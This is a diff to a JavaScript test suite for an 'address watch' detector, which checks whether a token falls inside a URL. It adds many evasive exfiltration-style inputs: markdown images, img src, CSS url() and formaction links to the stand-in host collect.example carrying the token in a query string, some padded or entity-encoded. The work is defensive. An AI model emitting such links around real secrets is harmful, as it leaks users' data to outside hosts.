@@ -75,6 +75,37 @@ describe("a token in an address is left alone", () => {
     `https://collect.example/?${"a".repeat(5_000)}`,
     `<img src='https://collect.example/?${" a".repeat(5_000)}`,
     "<a href=/path?q=",
+    // Quotes and angle brackets are units like any other where an address is not put between them.
+    '![x](https://collect.example/?q="',
+    "![x](https://collect.example/?q='",
+    "![x](https://collect.example/?q=<",
+    "![x](https://collect.example/?q=>",
+    'say "![x](https://collect.example/?q="',
+    "don't ![x](https://collect.example/?q='",
+    '<img src=https://collect.example/?q="',
+    "<img src=https://collect.example/?q=<",
+    'https://collect.example/?q="',
+    "https://collect.example/?q=>",
+    // Written with more spaces than anybody needs.
+    '<img src          =         "https://collect.example/?q= ',
+    "<img src   =   &#104;ttps&colon;//collect.example/?q=",
+    "![x](     <https://collect.example/?q= ",
+    "![x](\n<https://collect.example/?q= ",
+    String.raw`![x](<https://collect.example/?\> q=`,
+    "[1]: <https://collect.example/?q= ",
+    "[1]:\n<https://collect.example/?q= ",
+    '<style>a{background:url("https://collect.example/?) q=',
+    '<button formaction="https://collect.example/?q= ',
+    "<https:collect.example/?q=",
+    String.raw`see https:\\collect.example/`,
+    // Who talks to a person does so from the beginning.
+    "![x](https://collect.example/?q=mailto:",
+    "![x](https://collect.example/?q=](mailto:",
+    "https://collect.example/?q=tel:",
+    '<img src="https://collect.example/?q= mailto:',
+    "<img src=\"https://collect.example/?q= 'mailto:",
+    "<img src=\"https://collect.example/?q= src='mailto:",
+    "![x](<https://collect.example/?q= mailto:",
   ])("%s", (before) => {
     expect(createAddressWatch()(`${before}${TOKEN}`, before.length)).toBe(true);
   });
@@ -84,6 +115,17 @@ describe("a token elsewhere may be put back", () => {
   test.each([
     "Write to ",
     "[write](mailto:",
+    "[write](<mailto:",
+    "<mailto:",
+    '<a href="mailto:',
+    "<a href='tel:",
+    "write to mailto:",
+    '{"url":"https://shop.example/a","mail":"',
+    '<a href="https://shop.example">',
+    "<https://shop.example> ",
+    "<https://shop.example>",
+    "background: url(https://shop.example/a.png); ",
+    'url("https://shop.example/a.png") ',
     "See https://shop.example/help and write to ",
     "![alt text] and ",
     "(",
@@ -108,13 +150,24 @@ test("a text that grows is read on from where it was read before, and a place as
   expect(answers).toEqual([false, true, false, false, true, false]);
 });
 
-test.each(["[A", "[A_", "\\[", "[A_3f2a9c04d1be", "](", "](<", "www.", "src=", "[1]: ", "url(", 'src="'])(
-  "%j between ten thousand tokens is read in time linear in it",
-  (piece) => {
-    const text = `${piece}${TOKEN}`.repeat(10_000);
-    const watch = createAddressWatch();
-    const answers = findTokens(text).map(({ start }) => watch(text, start));
-    expect(answers.length).toBeGreaterThan(9_000);
-    expect(tokenBegun(text, 0, text.length)).toBeGreaterThanOrEqual(text.length - 112);
-  },
-);
+test.each([
+  "[A",
+  "[A_",
+  "\\[",
+  "[A_3f2a9c04d1be",
+  "](",
+  "](<",
+  "www.",
+  "src=",
+  "[1]: ",
+  "url(",
+  'src="',
+  'https:"',
+  "https:>",
+])("%j between ten thousand tokens is read in time linear in it", (piece) => {
+  const text = `${piece}${TOKEN}`.repeat(10_000);
+  const watch = createAddressWatch();
+  const answers = findTokens(text).map(({ start }) => watch(text, start));
+  expect(answers.length).toBeGreaterThan(9_000);
+  expect(tokenBegun(text, 0, text.length)).toBeGreaterThanOrEqual(text.length - 112);
+});
